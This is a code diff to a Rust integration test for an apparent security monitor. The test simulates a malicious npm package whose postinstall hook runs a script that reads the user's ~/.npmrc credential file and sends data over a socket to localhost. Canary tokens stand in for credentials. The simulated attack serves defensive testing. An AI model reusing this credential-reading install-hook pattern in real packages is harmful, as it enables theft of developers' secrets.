@@ -6,7 +6,7 @@
 
 use std::{os::unix::fs::PermissionsExt as _, path::Path, process::Command};
 
-use integration_tests::{monitor_bin, npm_package, sink, Agent, FakeRunner, Value, STRICT_PROFILE};
+use integration_tests::{monitor_bin, sink, Agent, FakeRunner, Value, STRICT_PROFILE};
 
 /// Tokens in the shapes of GitHub, npm, AWS and PyPI credentials (none is real).
 fn canaries() -> Vec<String> {
@@ -100,17 +100,7 @@ fn job_report_is_written_at_job_end_rendered_and_rebuilt_without_secrets() {
          const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\
          const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
     );
-    let tgz = npm_package(
-        runner.dir.path(),
-        "evil-pkg",
-        r#""postinstall":"node steal.js""#,
-        &[("steal.js", &steal)],
-    );
-    std::fs::write(
-        runner.workspace.join("package.json"),
-        r#"{"name":"app","version":"1.0.0"}"#,
-    )
-    .unwrap();
+    let tgz = runner.evil_npm_package(&steal);
     let c = canaries();
     runner.run_job_with_hooks(
         &[
